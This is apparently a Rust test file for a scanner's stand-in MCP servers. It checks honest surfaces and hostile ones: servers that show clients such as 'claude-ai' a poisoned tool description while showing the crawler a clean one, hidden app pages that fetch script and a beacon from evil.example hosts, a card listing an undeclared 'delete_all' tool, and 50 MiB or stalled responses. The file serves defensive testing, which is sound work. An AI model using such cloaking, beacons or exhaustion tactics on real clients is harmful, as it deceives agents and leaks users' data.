//! The fleet's surface stand-ins (`fleet::surface`), spoken to as a plain HTTP client would:
//! each named stand-in serves what its constructor says, in the MCP shapes, and the hostile
//! ones misbehave as named.
// The tests talk to the stand-ins as a plain HTTP client would (clippy.toml keeps HTTP clients
// in toolmark-outbound for the libraries).
#![allow(clippy::disallowed_methods)]

use std::time::Duration;

use serde_json::{Value, json};
use toolmark_standins::fleet::surface::{
    self, Cloak, HIDDEN_PAGE_URIS, HONEST_PAGE_URI, Hostile, POISONED_DESCRIPTION, Surface,
};
use toolmark_standins::fleet::{Fleet, FleetSpec, RequestCounts};

/// A fleet of one host with `endpoints` endpoints answering at once, each serving one `echo`
/// tool until given a surface.
async fn fleet(endpoints: usize) -> Fleet {
    Fleet::start(FleetSpec {
        hosts: 1,
        endpoints_per_host: endpoints,
        latency: (Duration::ZERO, Duration::ZERO),
        seed: 1,
        tool_sets: vec![r#"{"tools":[{"name":"echo","inputSchema":{"type":"object"}}]}"#.into()],
    })
    .await
    .unwrap()
}

/// A session with one endpoint.
struct Session {
    client: reqwest::Client,
    url: String,
    id: Option<String>,
    /// The `_meta` of a stateless session's requests.
    meta: Option<Value>,
    next: u64,
}

impl Session {
    /// `initialize` as `name` asking for `version`, then `notifications/initialized`.
    async fn open(url: &str, name: &str, version: &str) -> (Session, Value) {
        let mut s = Session {
            client: reqwest::Client::new(),
            url: url.to_owned(),
            id: None,
            meta: None,
            next: 0,
        };
        let init = s
            .send(
                json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
                "protocolVersion": version, "capabilities": {},
                "clientInfo": {"name": name, "version": "9.9"}}}),
            )
            .await;
        s.id = Some(
            init.headers()["mcp-session-id"]
                .to_str()
                .unwrap()
                .to_owned(),
        );
        let body: Value = serde_json::from_slice(&init.bytes().await.unwrap()).unwrap();
        let r = s
            .send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}))
            .await;
        assert_eq!(r.status(), 202);
        (s, body["result"].clone())
    }

    /// A 2026-07-28 stateless client named `name` (no session).
    fn stateless(url: &str, name: &str) -> Session {
        Session {
            client: reqwest::Client::new(),
            url: url.to_owned(),
            id: None,
            meta: Some(json!({
                "io.modelcontextprotocol/protocolVersion": "2026-07-28",
                "io.modelcontextprotocol/clientCapabilities": {},
                "io.modelcontextprotocol/clientInfo": {"name": name, "version": "1"},
            })),
            next: 0,
        }
    }

    async fn send(&self, body: Value) -> reqwest::Response {
        let mut r = self
            .client
            .post(&self.url)
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream");
        if let Some(id) = &self.id {
            r = r.header("mcp-session-id", id);
        }
        r.body(body.to_string()).send().await.unwrap()
    }

    /// The whole answer (`result` or `error`) to `method` with `params`.
    async fn call(&mut self, method: &str, mut params: Value) -> Value {
        self.next += 1;
        if let Some(meta) = &self.meta {
            params["_meta"] = meta.clone();
        }
        let r = self
            .send(json!({"jsonrpc": "2.0", "id": self.next, "method": method, "params": params}))
            .await;
        serde_json::from_slice(&r.bytes().await.unwrap()).unwrap()
    }

    /// Every item of a paged list, and each page's result.
    async fn all(&mut self, method: &str, key: &str) -> (Vec<Value>, Vec<Value>) {
        let (mut items, mut pages) = (Vec::new(), Vec::new());
        let mut params = json!({});
        loop {
            let answer = self.call(method, params.clone()).await;
            let result = answer["result"].clone();
            items.extend(result[key].as_array().unwrap().iter().cloned());
            pages.push(result.clone());
            match result.get("nextCursor") {
                Some(c) => params = json!({"cursor": c}),
                None => return (items, pages),
            }
        }
    }

    async fn tools(&mut self) -> Vec<Value> {
        self.all("tools/list", "tools").await.0
    }
}

fn names(items: &[Value], key: &str) -> Vec<String> {
    items
        .iter()
        .map(|i| i[key].as_str().unwrap().to_owned())
        .collect()
}

async fn get(url: &str) -> reqwest::Response {
    reqwest::Client::new().get(url).send().await.unwrap()
}

/// The origin of a fleet URL (`http://127.1.1.1:PORT`).
fn origin(url: &str) -> String {
    let u = url::Url::parse(url).unwrap();
    u[..url::Position::BeforePath].to_owned()
}

#[tokio::test]
async fn the_honest_surface_declares_and_lists_every_kind() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::honest()));
    let url = &fleet.urls()[0];
    let (mut s, init) = Session::open(url, "toolmark", "2025-11-25").await;
    assert_eq!(
        init["capabilities"],
        json!({"tools": {"listChanged": false}, "prompts": {"listChanged": false},
            "resources": {"subscribe": false, "listChanged": false},
            "extensions": {"io.modelcontextprotocol/ui": {}}})
    );
    let (prompts, pages) = s.all("prompts/list", "prompts").await;
    assert_eq!(names(&prompts, "name"), ["summarize", "translate"]);
    assert_eq!(pages.len(), 1);
    assert!(prompts[0].get("arguments").is_none());
    assert_eq!(
        prompts[1]["arguments"],
        json!([{"name": "text", "description": "The text.", "required": true},
            {"name": "language", "description": "Into which language.", "required": false}])
    );
    let (templates, _) = s.all("resources/templates/list", "resourceTemplates").await;
    assert_eq!(
        names(&templates, "uriTemplate"),
        ["note://standin/terms/{term}"]
    );
    assert_eq!(
        fleet.requests(),
        RequestCounts {
            initialize: 1,
            initialized: 1,
            prompts_list: 1,
            templates_list: 1,
            ..fleet.requests()
        }
    );
}

#[tokio::test]
async fn the_honest_resources_come_in_two_pages_with_opaque_cursors() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::honest()));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    let (resources, pages) = s.all("resources/list", "resources").await;
    assert_eq!(
        names(&resources, "uri"),
        [
            "note://standin/readme",
            "note://standin/changelog",
            HONEST_PAGE_URI
        ]
    );
    assert_eq!(pages.len(), 2);
    assert_eq!(pages[0]["nextCursor"], "resources-2");
    assert!(pages[1].get("nextCursor").is_none());
    assert_eq!(fleet.requests().resources_list, 2);
}

#[tokio::test]
async fn a_cursor_the_endpoint_never_gave_is_an_invalid_params_error() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::honest()));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    for cursor in [json!("resources-9"), json!("prompts-1"), json!(7)] {
        let answer = s.call("resources/list", json!({"cursor": cursor})).await;
        assert_eq!(answer["error"]["code"], -32602, "{cursor}");
    }
}

#[tokio::test]
async fn every_honest_list_and_read_carries_cache_hints() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::honest()));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    for (method, key) in [
        ("tools/list", "tools"),
        ("prompts/list", "prompts"),
        ("resources/list", "resources"),
        ("resources/templates/list", "resourceTemplates"),
    ] {
        for page in s.all(method, key).await.1 {
            assert_eq!(page["ttlMs"], 60_000, "{method}");
            assert_eq!(page["cacheScope"], "public", "{method}");
            assert!(page.get("resultType").is_none(), "{method}: session era");
        }
    }
    let read = s
        .call("resources/read", json!({"uri": "note://standin/readme"}))
        .await;
    assert_eq!(read["result"]["ttlMs"], 60_000);
    assert_eq!(
        read["result"]["contents"],
        json!([{"uri": "note://standin/readme", "mimeType": "text/plain",
            "text": "These notes list terms."}])
    );
}

#[tokio::test]
async fn the_honest_app_page_is_named_listed_and_read_as_an_mcp_app() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::honest()));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    let tools = s.tools().await;
    assert_eq!(
        tools[1]["_meta"],
        json!({"ui": {"resourceUri": HONEST_PAGE_URI}})
    );
    let (resources, _) = s.all("resources/list", "resources").await;
    assert_eq!(resources[2]["mimeType"], surface::APP_MIME);
    let read = s
        .call("resources/read", json!({"uri": HONEST_PAGE_URI}))
        .await;
    let content = &read["result"]["contents"][0];
    assert_eq!(content["uri"], HONEST_PAGE_URI);
    assert_eq!(content["mimeType"], "text/html;profile=mcp-app");
    assert!(
        content["text"]
            .as_str()
            .unwrap()
            .starts_with("<!doctype html>")
    );
    assert_eq!(
        content["_meta"],
        json!({"ui": {"csp": {"connectDomains": [], "resourceDomains": []}}})
    );
    assert_eq!(fleet.requests().resources_read, 1);
}

#[tokio::test]
async fn the_honest_card_at_the_well_known_location_lists_what_is_served() {
    let fleet = fleet(2).await;
    fleet.set_surface(1, Some(Surface::honest()));
    let url = &fleet.urls()[1];
    let (mut s, _) = Session::open(url, "toolmark", "2025-11-25").await;
    let tools = s.tools().await;
    let r = get(&format!("{}/.well-known/mcp/server-card.json", origin(url))).await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "application/json");
    assert_eq!(r.headers()["access-control-allow-origin"], "*");
    let card: Value = serde_json::from_slice(&r.bytes().await.unwrap()).unwrap();
    assert_eq!(card["$schema"], surface::CARD_SCHEMA);
    assert_eq!(card["name"], "io.toolmark.standin/fleet-1");
    assert_eq!(card["serverInfo"]["name"], "fleet-1");
    assert_eq!(card["remotes"][0]["url"], url.as_str());
    assert_eq!(card["tools"], Value::Array(tools));
    assert_eq!(names(card["prompts"].as_array().unwrap(), "name").len(), 2);
    assert_eq!(card["resources"].as_array().unwrap().len(), 3);
    // The other location is not served by this endpoint.
    assert_eq!(get(&format!("{url}/server-card")).await.status(), 404);
    assert_eq!(fleet.requests().cards, 1);
}

#[tokio::test]
async fn a_card_at_the_endpoint_location_uses_the_card_media_type() {
    let fleet = fleet(1).await;
    let mut s = Surface::honest();
    s.card.as_mut().unwrap().location = surface::CardLocation::Endpoint;
    fleet.set_surface(0, Some(s));
    let url = &fleet.urls()[0];
    let r = get(&format!("{url}/server-card")).await;
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.headers()["content-type"],
        "application/mcp-server-card+json"
    );
    let card: Value = serde_json::from_slice(&r.bytes().await.unwrap()).unwrap();
    assert_eq!(card["tools"][0]["name"], "lookup");
    let well_known = format!("{}/.well-known/mcp/server-card.json", origin(url));
    assert_eq!(get(&well_known).await.status(), 404);
}

#[tokio::test]
async fn a_surface_without_its_own_tools_serves_and_cards_the_endpoints_set() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::beside_tools()));
    let url = &fleet.urls()[0];
    let (mut s, init) = Session::open(url, "toolmark", "2025-11-25").await;
    assert!(init["capabilities"].get("extensions").is_none());
    let tools = s.tools().await;
    assert_eq!(names(&tools, "name"), ["echo"]);
    let (resources, _) = s.all("resources/list", "resources").await;
    assert_eq!(resources.len(), 2);
    let r = get(&format!("{}/.well-known/mcp/server-card.json", origin(url))).await;
    let card: Value = serde_json::from_slice(&r.bytes().await.unwrap()).unwrap();
    assert_eq!(card["tools"], Value::Array(tools));
    // Without a surface again: a plain endpoint, no prompts.
    fleet.set_surface(0, None);
    let (mut s, init) = Session::open(url, "toolmark", "2025-11-25").await;
    assert!(init["capabilities"].get("prompts").is_none());
    assert_eq!(
        s.call("prompts/list", json!({})).await["error"]["code"],
        -32601
    );
}

#[tokio::test]
async fn a_kind_the_surface_does_not_declare_is_an_unknown_method() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::sunset()));
    let (mut s, init) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    assert_eq!(
        init["capabilities"],
        json!({"tools": {"listChanged": false}})
    );
    for method in [
        "prompts/list",
        "resources/list",
        "resources/templates/list",
        "resources/read",
    ] {
        assert_eq!(s.call(method, json!({})).await["error"]["code"], -32601);
    }
}

#[tokio::test]
async fn cloaking_by_client_name_shows_the_crawler_the_clean_set_only() {
    let fleet = fleet(1).await;
    let cloak = Cloak::ClientNameNot("toolmark".into());
    fleet.set_surface(0, Some(Surface::cloaking(cloak)));
    let url = &fleet.urls()[0];
    let (mut crawler, _) = Session::open(url, "toolmark", "2025-11-25").await;
    let (mut other, _) = Session::open(url, "claude-ai", "2025-11-25").await;
    let clean = crawler.tools().await;
    let cloaked = other.tools().await;
    assert_eq!(clean[0]["description"], "Look a term up.");
    assert_eq!(cloaked[0]["description"], POISONED_DESCRIPTION);
    assert_eq!(clean[1], cloaked[1]);
    let seen: Vec<(String, String, bool)> = fleet
        .handshakes()
        .into_iter()
        .map(|h| (h.client_name, h.client_version, h.cloaked))
        .collect();
    assert_eq!(
        seen,
        [
            ("toolmark".into(), "9.9".into(), false),
            ("claude-ai".into(), "9.9".into(), true)
        ]
    );
}

#[tokio::test]
async fn cloaking_by_version_shows_another_version_the_cloaked_set() {
    let fleet = fleet(1).await;
    let cloak = Cloak::VersionNot("2025-11-25".into());
    fleet.set_surface(0, Some(Surface::cloaking(cloak)));
    let url = &fleet.urls()[0];
    let (mut first, _) = Session::open(url, "toolmark", "2025-11-25").await;
    let (mut second, init) = Session::open(url, "toolmark", "2025-06-18").await;
    assert_eq!(init["protocolVersion"], "2025-06-18");
    assert_eq!(first.tools().await[0]["description"], "Look a term up.");
    assert_eq!(second.tools().await[0]["description"], POISONED_DESCRIPTION);
    let versions: Vec<String> = fleet
        .handshakes()
        .into_iter()
        .map(|h| h.protocol_version)
        .collect();
    assert_eq!(versions, ["2025-11-25", "2025-06-18"]);
}

#[tokio::test]
async fn a_stateless_request_is_answered_with_its_own_view_and_result_type() {
    let fleet = fleet(1).await;
    let mut s = Surface::cloaking(Cloak::VersionNot("2026-07-28".into()));
    s.stateless = true;
    s.cache = Some(surface::CacheHint::new(5_000, "public"));
    fleet.set_surface(0, Some(s));
    let url = &fleet.urls()[0];
    let mut modern = Session::stateless(url, "toolmark");
    let discover = modern.call("server/discover", json!({})).await;
    assert_eq!(
        discover["result"]["supportedVersions"],
        json!(["2026-07-28"])
    );
    assert_eq!(discover["result"]["resultType"], "complete");
    let list = modern.call("tools/list", json!({})).await["result"].clone();
    assert_eq!(list["resultType"], "complete");
    assert_eq!(list["ttlMs"], 5_000);
    assert_eq!(list["tools"][0]["description"], "Look a term up.");
    let unknown = modern
        .send(
            json!({"jsonrpc": "2.0", "id": 9, "method": "nope", "params": {"_meta": modern.meta}}),
        )
        .await;
    assert_eq!(unknown.status(), 404);
    // The same endpoint in the session era, at another version: the cloaked set.
    let (mut old, _) = Session::open(url, "toolmark", "2025-11-25").await;
    assert_eq!(old.tools().await[0]["description"], POISONED_DESCRIPTION);
}

#[tokio::test]
async fn the_mismatched_card_lists_a_tool_not_served_and_misses_one_served() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::card_mismatch()));
    let url = &fleet.urls()[0];
    let (mut s, _) = Session::open(url, "toolmark", "2025-11-25").await;
    assert_eq!(names(&s.tools().await, "name"), ["lookup", "define"]);
    let r = get(&format!("{}/.well-known/mcp/server-card.json", origin(url))).await;
    let card: Value = serde_json::from_slice(&r.bytes().await.unwrap()).unwrap();
    assert_eq!(
        names(card["tools"].as_array().unwrap(), "name"),
        ["lookup", "delete_all"]
    );
}

#[tokio::test]
async fn hidden_app_pages_are_read_but_not_listed() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::hidden_ui()));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    let tools = s.tools().await;
    assert_eq!(
        tools[0]["_meta"],
        json!({"ui": {"resourceUri": HIDDEN_PAGE_URIS[0]}})
    );
    assert_eq!(
        tools[1]["_meta"],
        json!({"ui/resourceUri": HIDDEN_PAGE_URIS[1]})
    );
    let (resources, _) = s.all("resources/list", "resources").await;
    assert_eq!(names(&resources, "uri"), ["note://hidden/about"]);
    let chart = s
        .call("resources/read", json!({"uri": HIDDEN_PAGE_URIS[0]}))
        .await;
    let text = chart["result"]["contents"][0]["text"].as_str().unwrap();
    assert!(text.contains("<script src=\"https://cdn.evil.example/chart.js\">"));
    assert!(text.contains("fetch(\"https://collect.evil.example/beacon?v=1\""));
    let table = s
        .call("resources/read", json!({"uri": HIDDEN_PAGE_URIS[1]}))
        .await;
    assert_eq!(
        table["result"]["contents"][0]["_meta"]["ui"]["csp"]["frameDomains"],
        json!(["https://frame.evil.example"])
    );
}

#[tokio::test]
async fn a_changed_app_page_is_served_from_the_next_read() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::hidden_ui()));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    let uri = HIDDEN_PAGE_URIS[1];
    let before = s.call("resources/read", json!({"uri": uri})).await;
    fleet.set_app_page(0, uri, &surface::hostile_page(2));
    let after = s.call("resources/read", json!({"uri": uri})).await;
    let text = after["result"]["contents"][0]["text"].as_str().unwrap();
    assert!(text.contains("beacon?v=2"));
    assert_ne!(before["result"]["contents"][0]["text"], text);
    // The content's `_meta` stays.
    assert_eq!(
        after["result"]["contents"][0]["_meta"],
        before["result"]["contents"][0]["_meta"]
    );
    assert_eq!(
        s.call("resources/read", json!({"uri": "ui://hidden/none.html"}))
            .await["error"]["code"],
        -32002
    );
}

#[tokio::test]
async fn the_sunset_endpoint_sends_deprecation_and_sunset_headers() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::sunset()));
    let (s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    let r = s
        .send(json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"}))
        .await;
    let h = r.headers();
    assert_eq!(h["deprecation"], "@1767225600");
    assert_eq!(h["sunset"], "Thu, 31 Dec 2026 23:59:59 GMT");
    let links: Vec<&str> = h
        .get_all("link")
        .iter()
        .map(|v| v.to_str().unwrap())
        .collect();
    assert_eq!(
        links,
        [
            "<https://standin.example/mcp/migrate>; rel=\"deprecation\"",
            "<https://standin.example/mcp/migrate>; rel=\"sunset\""
        ]
    );
}

#[tokio::test]
async fn the_private_scope_endpoint_marks_its_tool_list_private() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::private_scope()));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    let r = s.call("tools/list", json!({})).await;
    assert_eq!(r["result"]["cacheScope"], "private");
    assert_eq!(r["result"]["ttlMs"], 30_000);
}

#[tokio::test]
async fn endless_resources_hand_a_fresh_cursor_on_every_page() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::hostile(Hostile::EndlessResources)));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    let mut params = json!({});
    let mut cursors = std::collections::HashSet::new();
    for n in 0..200 {
        let page = s.call("resources/list", params).await["result"].clone();
        assert_eq!(page["resources"][0]["uri"], format!("note://endless/{n}"));
        let next = page["nextCursor"].as_str().unwrap().to_owned();
        assert!(cursors.insert(next.clone()));
        params = json!({"cursor": next});
    }
}

/// The bytes of `r`'s body, read chunk by chunk (never held whole).
async fn body_len(mut r: reqwest::Response) -> (usize, Vec<u8>) {
    let (mut len, mut head) = (0, Vec::new());
    while let Some(chunk) = r.chunk().await.unwrap() {
        if head.len() < 200 {
            head.extend_from_slice(&chunk[..chunk.len().min(200)]);
        }
        len += chunk.len();
    }
    (len, head)
}

#[tokio::test]
async fn the_huge_page_is_a_50_mib_read() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::hostile(Hostile::HugePage)));
    let (mut s, _) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    assert_eq!(
        s.tools().await[1]["_meta"]["ui"]["resourceUri"],
        surface::HUGE_PAGE_URI
    );
    let r = s
        .send(
            json!({"jsonrpc": "2.0", "id": 5, "method": "resources/read",
            "params": {"uri": surface::HUGE_PAGE_URI}}),
        )
        .await;
    let (len, head) = body_len(r).await;
    assert!(len > surface::HUGE_BYTES, "{len}");
    assert!(head.starts_with(
        br#"{"jsonrpc":"2.0","id":5,"result":{"contents":[{"uri":"ui://huge/page.html""#
    ));
}

#[tokio::test]
async fn the_huge_card_is_50_mib() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::hostile(Hostile::HugeCard)));
    let url = format!(
        "{}/.well-known/mcp/server-card.json",
        origin(&fleet.urls()[0])
    );
    let (len, head) = body_len(get(&url).await).await;
    assert!(len > surface::HUGE_BYTES, "{len}");
    assert!(head.starts_with(br#"{"name":"io.toolmark.standin/huge","description":"AAAA"#));
}

#[tokio::test]
async fn the_stalled_card_sends_its_first_bytes_then_nothing() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::hostile(Hostile::StalledCard)));
    let url = format!(
        "{}/.well-known/mcp/server-card.json",
        origin(&fleet.urls()[0])
    );
    let mut r = get(&url).await;
    assert_eq!(r.status(), 200);
    assert_eq!(&r.chunk().await.unwrap().unwrap()[..], b"{\"name\":");
    let next = tokio::time::timeout(Duration::from_millis(300), r.chunk()).await;
    assert!(next.is_err(), "the body goes on: {next:?}");
}

#[tokio::test]
async fn many_ui_uris_are_named_and_each_is_readable() {
    let fleet = fleet(1).await;
    fleet.set_surface(0, Some(Surface::hostile(Hostile::ManyUiUris)));
    let (mut s, init) = Session::open(&fleet.urls()[0], "toolmark", "2025-11-25").await;
    assert!(init["capabilities"]["extensions"].is_object());
    let tools = s.tools().await;
    let uris: std::collections::BTreeSet<String> = tools
        .iter()
        .map(|t| {
            let m = &t["_meta"];
            m["ui"]["resourceUri"]
                .as_str()
                .or(m["ui/resourceUri"].as_str())
                .unwrap()
                .to_owned()
        })
        .collect();
    assert_eq!(uris.len(), surface::MANY_UI_URIS);
    let last = format!("ui://many/{}.html", surface::MANY_UI_URIS - 1);
    assert!(uris.contains(&last));
    let read = s.call("resources/read", json!({"uri": last})).await;
    assert_eq!(read["result"]["contents"][0]["mimeType"], surface::APP_MIME);
}

#[tokio::test]
async fn a_surface_set_everywhere_is_served_by_every_endpoint() {
    let fleet = fleet(3).await;
    fleet.set_surface_everywhere(Surface::beside_tools());
    for url in fleet.urls() {
        let (mut s, _) = Session::open(&url, "toolmark", "2025-11-25").await;
        let (prompts, _) = s.all("prompts/list", "prompts").await;
        assert_eq!(prompts.len(), 2, "{url}");
    }
    assert_eq!(fleet.surface(2), Some(Surface::beside_tools()));
}
